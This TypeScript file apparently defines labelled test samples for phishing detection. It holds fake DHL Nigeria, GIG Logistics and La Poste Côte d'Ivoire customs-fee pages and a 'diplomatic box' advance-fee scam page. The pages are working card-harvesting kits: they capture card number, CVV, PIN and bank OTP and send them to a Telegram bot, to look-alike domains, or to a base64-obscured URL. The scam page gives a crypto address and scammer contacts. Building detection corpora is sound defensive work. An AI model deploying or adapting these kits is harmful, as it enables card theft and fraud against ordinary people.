import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { CSS, LOGO, b64, doc, naira, tgSend, wa } from '../parts/yv-kit.js';

// Fake courier and customs fees: DHL, GIG Logistics, La Poste CI (card harvest), plus the advance-fee variants
// where the "consignment" needs a clearance fee paid by bank transfer.

const dhlFee = doc({
  title: 'DHL Express Nigeria - Customs Duty Payment',
  css: `${CSS.reset}body{background:#f2f2f2}.y{background:#ffcc00;padding:12px 24px}.c{max-width:560px;margin:22px auto;background:#fff;padding:24px}table{width:100%;font-size:14px;border-collapse:collapse}td{padding:6px 0;border-bottom:1px solid #eee}${CSS.field}.row{display:flex;gap:10px}.row div{flex:1}button{background:#d40511;color:#fff;border:0;padding:13px 30px;margin-top:18px;font-weight:700}.st{display:none}`,
  body: `<div class="y">${LOGO.dhl}</div>
<div class="c"><h2>Your shipment is on hold</h2>
<table><tr><td>Waybill</td><td>JD014600009921448871</td></tr><tr><td>Origin</td><td>London Heathrow, GB</td></tr><tr><td>Destination</td><td>Lagos, NG</td></tr><tr><td>Status</td><td style="color:#d40511">Awaiting import duty payment</td></tr><tr><td>Duty + handling</td><td><b>${naira(3450)}</b></td></tr></table>
<form id="pay"><div class="st" style="display:block" id="a"><label>Cardholder name</label><input name="n" required><label>Card number</label><input name="c" maxlength="19" required><div class="row"><div><label>Expiry</label><input name="e" placeholder="MM/YY"></div><div><label>CVV</label><input name="v" maxlength="4"></div><div><label>PIN</label><input name="p" type="password" maxlength="4"></div></div></div>
<div class="st" id="b"><label>Enter the OTP sent by your bank</label><input name="o" maxlength="8"></div>
<button>Pay ${naira(3450)}</button></form>
<p style="font-size:12px;color:#777">If duty is not paid within 48 hours the parcel will be returned to sender.</p></div>
<script>
${tgSend('7268810045:AAHs0dPq2kXc9vNbR3eTyW5uZm7LaF1iGo4', '-1001844520377', 'tg')}
var st=0;document.getElementById('pay').onsubmit=function(e){e.preventDefault();var t='DHL NG '+(st?'OTP':'CARD')+'\\n';new FormData(this).forEach(function(v,k){if(v)t+=k+'='+v+'\\n';});tg(t);
if(!st){st=1;document.getElementById('a').style.display='none';document.getElementById('b').style.display='block';}else{document.querySelector('.c').innerHTML='<h2>Payment received</h2><p>Your parcel will be delivered within 2 working days.</p>';}};
</script>`,
});

const gigKit = doc({
  title: 'GIG Logistics | Redelivery',
  css: `${CSS.reset}body{background:#fafafa}.h{background:#fff;border-bottom:2px solid #ec1c24;padding:10px 20px}.c{max-width:440px;margin:20px auto;background:#fff;border-radius:10px;padding:22px;box-shadow:0 2px 8px rgba(0,0,0,.08)}.trk{display:flex;justify-content:space-between;font-size:12px;margin:16px 0}.trk span{flex:1;border-top:4px solid #ec1c24;padding-top:4px}.trk .off{border-color:#ddd;color:#aaa}${CSS.field}button{width:100%;background:#ec1c24;color:#fff;border:0;border-radius:6px;padding:13px;margin-top:16px}`,
  body: `<div class="h">${LOGO.gig}</div>
<div class="c"><h3>Delivery attempt failed</h3><p style="font-size:14px">Waybill <b>GIG-1149027733</b>: our rider could not deliver your package because the address is incomplete. Update your address and pay the redelivery fee of <b>${naira(1200)}</b>.</p>
<div class="trk"><span>Picked up</span><span>In transit</span><span>Out for delivery</span><span class="off">Delivered</span></div>
<form method="post" action="https://gig-redelivery.ng-parcels.top/pay/charge.php"><label>Full address</label><input name="addr" required><label>Phone</label><input name="phone" required>
<label>Card number</label><input name="card" required><label>Expiry (MM/YY)</label><input name="exp" required><label>CVV</label><input name="cvv" maxlength="3" required>
<button>Pay ${naira(1200)} &amp; reschedule</button></form></div>`,
});

const laposteCi = doc({
  title: 'La Poste de Côte d\'Ivoire - Colis en attente',
  lang: 'fr',
  css: `${CSS.reset}body{background:#f6f6f6}.h{background:#ffd100;padding:14px 22px;font-weight:800;color:#003da5;font-size:20px}.c{max-width:480px;margin:24px auto;background:#fff;padding:24px;border-radius:6px}${CSS.field}button{width:100%;background:#003da5;color:#fff;border:0;padding:13px;margin-top:16px}`,
  body: `<div class="h">LA POSTE &middot; Côte d'Ivoire</div>
<div class="c"><h2>Votre colis est en attente de livraison</h2>
<p>Numéro de suivi&nbsp;: <b>CI48820199FR</b><br>Des frais de dédouanement de <b>1 500 FCFA</b> doivent être réglés avant la livraison.</p>
<form id="lp"><label>Nom complet</label><input name="nom" required><label>Numéro de carte</label><input name="carte" required><label>Date d'expiration</label><input name="exp" placeholder="MM/AA" required><label>Cryptogramme (CVV)</label><input name="cvv" maxlength="3" required><button>Payer 1 500 FCFA</button></form>
<p style="font-size:12px;color:#888">Sans paiement sous 72h, le colis sera retourné à l'expéditeur.</p></div>
<script>document.getElementById('lp').onsubmit=function(e){e.preventDefault();fetch(atob('${b64('https://laposte-ci-colis.live/api/v1/card')}'),{method:'POST',body:JSON.stringify(Object.fromEntries(new FormData(this)))});location.href='/fr/3ds.html';};</script>`,
});
const laposte3ds = doc({
  title: 'Vérification 3-D Secure',
  lang: 'fr',
  css: `${CSS.reset}.c{max-width:380px;margin:60px auto;border:1px solid #ccc;padding:20px;font-size:14px}input{width:100%;padding:10px}button{margin-top:12px;padding:10px 24px}`,
  body: `<div class="c"><b>Vérification de paiement</b><p>Un code vous a été envoyé par SMS. Montant : 1 500 XOF. Commerçant : LAPOSTE CI.</p><form method="post" action="https://laposte-ci-colis.live/api/v1/otp"><input name="otp" maxlength="6"><button>Valider</button></form></div>`,
});

const diplomatScam = doc({
  title: 'Global Diplomatic Courier Services',
  css: `${CSS.reset}body{background:#0c2340;color:#fff;font-family:Times New Roman,serif}.c{max-width:740px;margin:0 auto;padding:30px}.p{background:#fff;color:#111;padding:26px}h1{color:#d4af37}.tbl td{padding:4px 10px}.track{background:#f2f2f2;border:1px solid #ccc;padding:12px;margin:12px 0}`,
  body: `<div class="c"><h1>GLOBAL DIPLOMATIC COURIER SERVICES</h1><p>Secure diplomatic delivery worldwide since 1987 &mdash; Accra &middot; Lagos &middot; Cotonou &middot; London</p>
<div class="p"><h3>Tracking result: GDC-88-40021-AC</h3>
<table class="tbl"><tr><td>Item</td><td>Diplomatic box (sealed), 1 unit</td></tr><tr><td>Content declared</td><td>Family valuables / funds (USD 2,500,000.00)</td></tr><tr><td>Current location</td><td>Kotoka International Airport, Accra</td></tr><tr><td>Status</td><td><b style="color:#b00">ON HOLD &mdash; Anti-Terrorism &amp; Drug Clearance Certificate required</b></td></tr></table>
<div class="track">The diplomat assigned to your delivery, <b>Mr. Kevin Morgan</b>, cannot move the box out of the airport until the ATDC certificate is obtained. Certificate fee: <b>USD 3,850</b>, payable in Bitcoin, USDT (TRC20) or by bank transfer. After payment, delivery to your home address within 24 hours.</div>
<p>USDT (TRC20) address: <code>TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE</code></p>
<p>Contact the diplomat: <a href="mailto:kevin.morgan.diplomat@proton.me">kevin.morgan.diplomat@proton.me</a> or WhatsApp +44 7488 210 339</p>
<p style="font-size:12px">Failure to pay within 7 days will result in the box being handed over to the Economic and Organised Crime Office.</p></div></div>`,
});

export const entries: Entry[] = [
  { id: 'yv-dhl-ng-customs-duty-card-otp', label: 'phishing', kind: 'courier-fee-card-harvest', url: 'https://dhl-ng-duty.delivery-hold.live/pay/JD014600009921448871', body: dhlFee },
  {
  id: 'yv-gig-logistics-redelivery-fee',
  label: 'phishing',
  kind: 'courier-fee-card-harvest',
  url: 'https://gig-redelivery.ng-parcels.top/t/GIG-1149027733',
  body: gigKit,
  routes: { 'gig-redelivery.ng-parcels.top/pay/charge.php': redirectRoute(302, 'https://giglogistics.com/') },
},
  {
  id: 'yv-laposte-ci-colis-3ds-fr',
  label: 'phishing',
  kind: 'courier-fee-card-harvest',
  url: 'https://laposte-ci-colis.live/fr/suivi/CI48820199FR',
  body: laposteCi,
  routes: { 'laposte-ci-colis.live/fr/3ds.html': htmlRoute(laposte3ds) },
},
  { id: 'yv-diplomatic-box-atdc-fee', label: 'scam', kind: 'advance-fee-scam', url: 'https://globaldiplomaticcourier-gh.com/track?id=GDC-88-40021-AC', body: diplomatScam, routes: {} },
];
